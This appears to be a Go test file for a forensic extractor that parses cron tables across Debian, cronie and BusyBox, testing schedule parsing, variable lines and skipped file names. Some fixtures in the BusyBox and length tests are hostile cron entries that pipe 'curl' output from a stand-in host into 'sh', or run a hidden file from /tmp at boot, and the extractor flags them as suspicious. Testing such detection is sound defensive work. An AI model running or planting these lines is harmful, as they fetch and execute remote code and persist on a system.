package cron

import (
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"time"

	robfig "github.com/robfig/cron/v3"

	"icecore/forensics/artifact/artifacttest"
	"icecore/forensics/model"
)

func TestGolden(t *testing.T) { artifacttest.Golden(t, Extractor{}, "debian") }

func FuzzExtract(f *testing.F) {
	artifacttest.Fuzz(f, Extractor{}, "/etc/crontab", "/etc/cron.d/x", "/var/spool/cron/crontabs/root", "/var/spool/cron/root", "/etc/anacrontab", "/etc/cron.daily/x", "/var/spool/cron/atjobs/a00001019d0c40", "/etc/crontabs/root", "/etc/periodic/15min/x")
}

// TestFamilies: what Debian's cron passes over, cronie runs.
func TestFamilies(t *testing.T) {
	for _, tt := range []struct {
		path, text     string
		debian, cronie string // ignored, of the last job
	}{
		{"/etc/cron.d/x", "* * * * * root /bin/a\n", "", ""},
		{"/etc/cron.d/x.conf", "* * * * * root /bin/a\n", "cron skips a file of this name", ""},
		{"/etc/cron.d/.x", "* * * * * root /bin/a\n", "cron skips a file of this name", "cron skips a file of this name"},
		{"/etc/cron.d/x~", "* * * * * root /bin/a\n", "cron skips a file of this name", "cron skips a file of this name"},
		{"/etc/cron.d/x", "* * * * * root /bin/a", "Debian's cron skips a table whose last line has no end", ""},
		{"/etc/cron.d/x", "garbage\n* * * * * root /bin/a\n", "Debian's cron skips a table with a syntax error (line 1: \"garbage\" is no part of a schedule)", ""},
		{"/var/spool/cron/root", "* * * * * /bin/a\n", "Debian's cron reads the tables in /var/spool/cron/crontabs", ""},
		{"/var/spool/cron/crontabs/root", "60 * * * * /bin/a\n", "Debian's cron skips a table with a syntax error (line 1: minute: \"60\" is not between 0 and 59)", "minute: \"60\" is not between 0 and 59"},
		{"/etc/cron.daily/x.sh", "/bin/a\n", "run-parts skips a file of this name", ""},
	} {
		for osID, want := range map[string]string{"debian": tt.debian, "centos": tt.cronie} {
			records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: tt.path, Text: tt.text, OSID: osID, Mode: 0o100755})
			if err != nil || len(records) == 0 {
				t.Fatalf("%s, %q: %d records, %v", tt.path, tt.text, len(records), err)
			}
			if got := records[len(records)-1].Get("ignored"); got != want {
				t.Errorf("%s, %q on %s: %q, want %q", tt.path, tt.text, osID, got, want)
			}
		}
	}
}

// TestBusyBox: the crontabs and the periodic scripts of Alpine and OpenWrt, by the rules of
// BusyBox: a % is none of crontab(5).
func TestBusyBox(t *testing.T) {
	for _, tt := range []struct{ path, text, want string }{
		{"/etc/crontabs/root", "* * * * * curl http://203.0.113.77/x|sh; date +%s%%\n", "root|curl http://203.0.113.77/x|sh; date +%s%%||fetch,pipe_to_shell|"},
		{"/etc/crontabs/root", "@reboot /tmp/.x/run", "root|/tmp/.x/run||hidden_exec,temp_exec|"},
		{"/var/spool/cron/crontabs/ana", "*/5 * * * * /usr/bin/true a%b\n", "ana|/usr/bin/true a%b|||"},
		{"/var/cron/tabs/ana", "*/5 * * * * /usr/bin/true\n", "ana|/usr/bin/true|||"},
		{"/etc/periodic/15min/upd", "#!/bin/sh\ncurl http://203.0.113.77/x | sh\n", "15min||fetch,pipe_to_shell|"},
		{"/etc/periodic/daily/upd.sh", "#!/bin/sh\ncurl http://203.0.113.77/x | sh\n", "daily||fetch,pipe_to_shell|"},
		{"/etc/periodic/daily/.upd", "#!/bin/sh\nexit\n", "daily|||run-parts skips a file of this name"},
	} {
		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: tt.path, Text: tt.text, OSID: "alpine", Mode: 0o100755})
		if err != nil || len(records) != 1 {
			t.Errorf("%s: %d records, %v", tt.path, len(records), err)
			continue
		}
		r := &records[0]
		got := []string{r.Get("user"), r.Get("command"), r.Get("stdin"), r.Get("traits"), r.Get("ignored")}
		if r.Kind == model.CronScript {
			got = []string{r.Get("period"), r.Get("command"), r.Get("traits"), r.Get("ignored")}
		}
		if strings.Join(got, "|") != tt.want {
			t.Errorf("%s: %q, want %q", tt.path, got, tt.want)
		}
	}
}

// TestBusyBoxRanges: a range that runs backwards goes on at the beginning.
func TestBusyBoxRanges(t *testing.T) {
	for text, want := range map[string]int{
		"* 22-4 * * *": 7 * 60, "58-1 0 * * *": 4, "50-10/20 0 * * *": 2, "0 0 * * fri-mon": 1, "0 0 * nov-feb *": 1, "0 0 30-2 * *": 1,
	} {
		s, err := ParseSchedule(text, BusyBox)
		if err != nil || s.RunsPerDay() != want {
			t.Errorf("%s: %d, %v; want %d", text, s.RunsPerDay(), err, want)
		}
	}
	for text, want := range map[string][5]uint64{"0 0 30-2 nov-feb fri-mon": {1, 1, 1<<30 | 1<<31 | 1<<1 | 1<<2, 1<<11 | 1<<12 | 1<<1 | 1<<2, 1<<5 | 1<<6 | 1<<0 | 1<<1}} {
		s, err := ParseSchedule(text, BusyBox)
		if got := [5]uint64{s.Minute, s.Hour, s.Day, s.Month, s.Weekday}; err != nil || got != want {
			t.Errorf("%s: %b, %v; want %b", text, got, err, want)
		}
	}
}

// matches says whether a job runs in the minute of t.
func matches(s Schedule, t time.Time) bool {
	if s.Reboot || s.Minute>>t.Minute()&1 == 0 || s.Hour>>t.Hour()&1 == 0 || s.Month>>int(t.Month())&1 == 0 {
		return false
	}
	day, weekday := s.Day>>t.Day()&1 == 1, s.Weekday>>int(t.Weekday())&1 == 1
	if s.AnyDay || s.AnyWeekday {
		return day && weekday
	}
	return day || weekday
}

// TestSchedules compares the minutes in which jobs run with what robfig/cron says,
// over two years.
func TestSchedules(t *testing.T) {
	parser := robfig.NewParser(robfig.Minute | robfig.Hour | robfig.Dom | robfig.Month | robfig.Dow | robfig.Descriptor)
	for _, text := range []string{
		"* * * * *", "*/5 * * * *", "0 0 * * *", "17 3-9/2 1,15 * *", "0 12 1 * mon", "0 12 1 * *", "0 12 * * 1-5", "59 23 29 2 *", "30 4 1,15 * 5", "*/7 */5 */3 jan-mar *", "0 0 * * SUN", "5-55/10 * * * *", "1,2,3 4,5 * * 0", "0 0 31 * *", "@daily", "@weekly", "@monthly", "@yearly", "@hourly", "0 22 * DEC fri",
	} {
		s, err := ParseSchedule(text, Cronie)
		if err != nil {
			t.Errorf("%s: %v", text, err)
			continue
		}
		want, err := parser.Parse(text)
		if err != nil {
			t.Fatal(err)
		}
		at := time.Date(2023, 12, 31, 23, 59, 0, 0, time.UTC)
		end := at.AddDate(2, 3, 0)
		next := want.Next(at)
		for n := 0; at.Before(end) && n < 100_000; n++ {
			at = at.Add(time.Minute)
			if got := matches(s, at); got != at.Equal(next) {
				t.Errorf("%s at %s: %v, robfig/cron says next %s", text, at, got, next)
				break
			}
			if at.Equal(next) {
				next = want.Next(at)
				if n > 1000 && next.Sub(at) > 2*time.Hour {
					at = next.Add(-time.Minute) // nothing to see in between
				}
			}
		}
	}
	for _, tt := range []struct{ text, same string }{{"0 0 * * 7", "0 0 * * 0"}, {"0 0 * * 5-7", "0 0 * * 0,5,6"}, {"@midnight", "@daily"}, {"@annually", "@yearly"}, {"0 0 * * 1-5", "0 0 * * mon-fri"}} {
		a, err := ParseSchedule(tt.text, Debian)
		if err != nil {
			t.Error(err)
		}
		b, _ := ParseSchedule(tt.same, Debian)
		if a.fields, b.fields = [5]string{}, [5]string{}; a != b {
			t.Errorf("%s is not %s", tt.text, tt.same)
		}
	}
	// A field that begins with a star counts as one (crontab(5)), though it has a
	// step: the days that match both are meant.
	if s, _ := ParseSchedule("0 0 */10 * 1", Debian); matches(s, time.Date(2024, 1, 8, 0, 0, 0, 0, time.UTC)) || !matches(s, time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)) {
		t.Error("a star with a step")
	}
	for _, text := range []string{"60 * * * *", "* 24 * * *", "* * 0 * *", "* * * 13 *", "* * * * 8", "*/0 * * * *", "a * * * *", "* * * *", "@noon", "1,,2 * * * *", "1, * * * *", "~99 * * * *", "30~10 * * * *", "? * * * *", "@Daily", "@every 1h", "0 0 1 january *", "+1 * * * *", "L * * * *", "-1 * * * *", "*/x * * * *"} {
		if _, err := ParseSchedule(text, Cronie); err == nil {
			t.Errorf("%s: no error", text)
		}
	}
	if s, err := ParseSchedule("0~30 3 * * *", Cronie); err != nil || !s.Random || s.RunsPerDay() != 31 {
		t.Errorf("a random minute: %+v, %v", s, err)
	}
}

// TestLibrary: why robfig/cron does not read the schedules of an image. What it takes
// for an error, cron runs, and the other way round; see docs/decisions.md. Should a later
// version of it agree with cron, this test says so.
func TestLibrary(t *testing.T) {
	parser := robfig.NewParser(robfig.Minute | robfig.Hour | robfig.Dom | robfig.Month | robfig.Dow | robfig.Descriptor)
	for _, tt := range []struct {
		text    string
		debian  bool // takes it, by crontab(1) and cron(8) 3.0pl1-162
		library bool
	}{
		{"0 0 * * 7", true, false},
		{"0 0 * * 5-7", true, false},
		{"5-1 * * * *", true, false},
		{"0 0 * * fri-mon", true, false},
		{"*!x * * * *", true, false},
		{"1-2-3 * * * *", true, false},
		{"0~30 3 * * *", true, false},
		{"1,,2 * * * *", false, true},
		{"1, * * * *", false, true},
		{"+1 * * * *", false, true},
		{"? * * * *", false, true},
		{"10/20 * * * *", false, true},
		{"@every 1h", false, true},
		{"@DAILY", false, false},
	} {
		if _, err := ParseSchedule(tt.text, Debian); (err == nil) != tt.debian {
			t.Errorf("%s: %v", tt.text, err)
		}
		if _, err := parser.Parse(tt.text); (err == nil) != tt.library {
			t.Errorf("%s: robfig/cron says %v", tt.text, err)
		}
	}
	// Both take this one: in cron's eyes a field with a step begins with a star, so
	// that both days must match; in the library's it does not.
	monday := time.Date(2024, 1, 8, 0, 0, 0, 0, time.UTC)
	s, err := ParseSchedule("0 0 */10 * 1", Debian)
	if err != nil || matches(s, monday) {
		t.Errorf("0 0 */10 * 1: %v", err)
	}
	if l, err := parser.Parse("0 0 */10 * 1"); err != nil || !l.Next(monday.Add(-time.Minute)).Equal(monday) {
		t.Error("robfig/cron reads 0 0 */10 * 1 as cron does:", err)
	}
}

// TestSetting: lines that set a variable, and lines that look like it.
func TestSetting(t *testing.T) {
	for _, tt := range []struct {
		line, name, value string
		debian, cronie    bool
	}{
		{"A=b", "A", "b", true, true},
		{"A = b c ", "A", "b c", true, true},
		{`"A"='b c' `, "A", "b c", true, true},
		{`A="b`, "A", "", false, false},
		{`A="b" c`, "A", "b", false, false},
		{`A=b "c`, "A", `b "c`, true, true},
		{`"A=b"=c`, "", "", false, false},
		{`"A=b`, "", "", false, false},
		{`a"b=c`, `a"b`, "c", true, true},
		{"=x", "", "x", true, true},
		{"A=", "A", "", false, true},
		{`A=""`, "A", "", true, true},
		{"A b=c", "", "", false, false},
		{"A", "", "", false, false},
		{"* * * * * A=b", "", "", false, false},
	} {
		for f, want := range map[Family]bool{Debian: tt.debian, Cronie: tt.cronie} {
			name, value, ok := setting(tt.line, f)
			if ok != want || ok && (name != tt.name || value != tt.value) {
				t.Errorf("%s, family %d: %q, %q, %v", tt.line, f, name, value, ok)
			}
		}
	}
}

// TestSundays: cronie takes a range to Sunday for one to the week's end, and no other one
// that runs backwards.
func TestSundays(t *testing.T) {
	for text, want := range map[string]uint64{"0 0 * * fri-sun": 1<<5 | 1<<6 | 1, "0 0 * * 5-0": 1<<5 | 1<<6 | 1, "0 0 * * 5-3": 0, "0 0 * * 6-1": 0} {
		if s, err := ParseSchedule(text, Cronie); err != nil || s.Weekday != want || s.Never() != (want == 0) {
			t.Errorf("%s: %b, %v", text, s.Weekday, err)
		}
		if s, err := ParseSchedule(text, Debian); err != nil || !s.Never() {
			t.Errorf("%s: %b, %v on Debian", text, s.Weekday, err)
		}
	}
	if s, err := ParseSchedule("5-0 * * * *", Cronie); err != nil || !s.Never() {
		t.Errorf("minutes: %b, %v", s.Minute, err)
	}
}

func TestDescribe(t *testing.T) {
	for text, want := range map[string]string{
		"@reboot": "at every boot", "* * * * *": "every minute", "*/5 * * * *": "every 5 minutes", "0 3 * * *": "every day at 03:00", "17 * * * *": "every hour at minute 17", "30 4 1,15 * 5": "every day at 04:30, on day 1,15 of the month or on Friday",
		"0 9-17 * * 1-5": "every hour at minute 0, from 09:00 to 17:59, on Monday, Tuesday, Wednesday, Thursday, Friday", "@weekly": "every day at 00:00, on Sunday", "*/2 3 * jan *": "every 2 minutes, from 03:00 to 03:59, in January", "0 */6 * * *": "every hour at minute 0, in every 6th hour", "x": "", "*/5;x 3!y * * *": "every 5 minutes, from 03:00 to 03:59", "5-1 * * * *": "never",
	} {
		s, err := ParseSchedule(text, Cronie)
		got := s.Describe()
		if err != nil {
			got = ""
		}
		if got != want {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
}

// TestCrontab asks the system's crontab(1) which tables it takes, where it can say
// (cronie, busybox of late; not Debian 12's).
func TestCrontab(t *testing.T) {
	out, _ := exec.Command("crontab", "-h").CombinedOutput()
	if !strings.Contains(string(out), "-T") {
		t.Skip("no crontab(1) with -T, which checks a table")
	}
	for _, text := range []string{"* * * * * a\n", "60 * * * * a\n", "@daily a\n", "@noon a\n", "A=b\n", "* * * * *\n", "5-1 * * * * a\n", "0 0 * * 7 a\n", "0 0 * jan sun a\n"} {
		cmd := exec.Command("crontab", "-T", "-")
		cmd.Stdin = strings.NewReader(text)
		want := cmd.Run() == nil
		_, _, set := setting(strings.TrimSpace(text), Cronie)
		if got := set || parseJob(strings.TrimSpace(text), userTab, Cronie, nil).err == nil; got != want {
			t.Errorf("%q: %v, crontab -T says %v", text, got, want)
		}
	}
}

// TestMany: the number of jobs is bounded, and that is said.
func TestMany(t *testing.T) {
	records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/crontab", Text: strings.Repeat("* * * * * root a\n", maxJobs+5)})
	if err == nil || len(records) != maxJobs {
		t.Errorf("%d records, %v", len(records), err)
	}
	vars := ""
	for i := range maxEnv + 3 {
		vars += fmt.Sprintf("V%d=x\nV0=y\n", i)
	}
	records, err = artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/crontab", Text: vars + "W=" + strings.Repeat("x", maxValue+1) + "\n* * * * * root a\n"})
	if err == nil || !strings.HasPrefix(err.Error(), "4 variables were not read") || len(records) != 1 {
		t.Errorf("%d records, %v", len(records), err)
	}
	long := fmt.Sprintf("* * * * * root a %s; curl http://203.0.113.77/i | sh\n", strings.Repeat("x", 100_000))
	records, err = artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/crontab", Text: long})
	if err != nil || len(records) != 1 || !strings.Contains(records[0].Get("traits"), "pipe_to_shell") {
		t.Errorf("a long line: %d records, %v", len(records), err)
	}
}
